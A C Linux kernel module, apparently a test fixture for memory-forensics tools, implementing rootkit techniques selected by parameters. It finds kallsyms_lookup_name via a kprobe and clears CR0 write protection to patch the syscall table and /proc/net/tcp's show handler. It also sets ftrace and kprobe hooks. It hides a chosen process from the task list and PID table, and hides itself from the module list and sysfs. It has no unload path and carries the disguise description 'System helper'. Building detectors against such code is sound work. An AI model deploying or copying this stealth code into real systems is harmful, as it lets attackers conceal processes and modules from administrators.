/* SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only */
/*
 * The module of the lab's attacked guests: it does to the running kernel what
 * rootkits do, each as a parameter asks, and nothing beside. A fixture for the
 * readers of hooks and hidden tasks; built by memory_module.sh, loaded in
 * guests of the lab alone, never on a real machine.
 *
 *   syscall=1      an entry of sys_call_table (kill)
 *   ftrace=1       an ftrace hook (__x64_sys_getdents64)
 *   kprobe=1       a kprobe (do_unlinkat)
 *   seq=1          tcp4_seq_ops.show, which is /proc/net/tcp
 *   hide_list=PID  a process off the list of tasks
 *   hide_pid=PID   a process off the table of pids: /proc lacks it
 *   hide_self=1    the module off the list of modules, and out of /sys/module
 */
#include <linux/ftrace.h>
#include <linux/init.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched/signal.h>
#include <linux/seq_file.h>
#include <linux/version.h>
#include <asm/syscall.h>
#include <asm/unistd.h>

static int syscall, ftrace, kprobe, seq, hide_list, hide_pid, hide_self;
module_param(syscall, int, 0400);
module_param(ftrace, int, 0400);
module_param(kprobe, int, 0400);
module_param(seq, int, 0400);
module_param(hide_list, int, 0400);
module_param(hide_pid, int, 0400);
module_param(hide_self, int, 0400);

static unsigned long (*lookup)(const char *name);

/* Not exported since 5.7; a probe on it says where it is. */
static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err)
		return err;
	lookup = (void *)kp.addr;
	/* past the landing pad, or on it: either can be called */
	unregister_kprobe(&kp);
	return 0;
}

/* Read-only data is written by clearing write protection for a moment. */
static void write_word(unsigned long *at, unsigned long value)
{
	unsigned long cr0, flags;

	local_irq_save(flags);
	cr0 = read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~(1UL << 16)) : "memory");
	WRITE_ONCE(*at, value);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static long (*old_kill)(const struct pt_regs *regs);
static noinline long new_kill(const struct pt_regs *regs)
{
	return old_kill(regs);
}

static int (*old_show)(struct seq_file *m, void *v);
static noinline int new_show(struct seq_file *m, void *v)
{
	return old_show(m, v);
}

static void notrace on_getdents(unsigned long ip, unsigned long parent,
				struct ftrace_ops *ops, struct ftrace_regs *regs)
{
}
static struct ftrace_ops getdents_ops = { .func = on_getdents };

static int on_unlink(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}
static struct kprobe unlink_probe = { .symbol_name = "do_unlinkat",
				      .pre_handler = on_unlink };

static int hook(void)
{
	unsigned long *table;
	int err = 0;

	if (syscall) {
		table = (void *)lookup("sys_call_table");
		if (!table)
			return -ENOENT;
		old_kill = (void *)table[__NR_kill];
		write_word(&table[__NR_kill], (unsigned long)new_kill);
	}
	if (seq) {
		struct seq_operations *ops = (void *)lookup("tcp4_seq_ops");

		if (!ops)
			return -ENOENT;
		old_show = ops->show;
		write_word((unsigned long *)&ops->show, (unsigned long)new_show);
	}
	if (ftrace) {
		err = ftrace_set_filter(&getdents_ops, "__x64_sys_getdents64",
					strlen("__x64_sys_getdents64"), 1);
		if (!err)
			err = register_ftrace_function(&getdents_ops);
	}
	if (!err && kprobe)
		err = register_kprobe(&unlink_probe);
	return err;
}

static int hide(void)
{
	struct task_struct *task;
	struct pid *pid;

	if (hide_list) {
		pid = find_get_pid(hide_list);
		task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
		if (!task)
			return -ESRCH;
		list_del_init(&task->tasks);
	}
	if (hide_pid) {
		pid = find_get_pid(hide_pid);
		if (!pid)
			return -ESRCH;
		idr_remove(&pid->numbers[0].ns->idr, hide_pid);
	}
	if (hide_self) {
		kobject_del(&THIS_MODULE->mkobj.kobj);
		list_del_init(&THIS_MODULE->list);
	}
	return 0;
}

static int __init memory_rootkit_init(void)
{
	int err = find_lookup();

	if (!err)
		err = hook();
	if (!err)
		err = hide();
	return err;
}
module_init(memory_rootkit_init);	/* and no way out */
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("System helper");
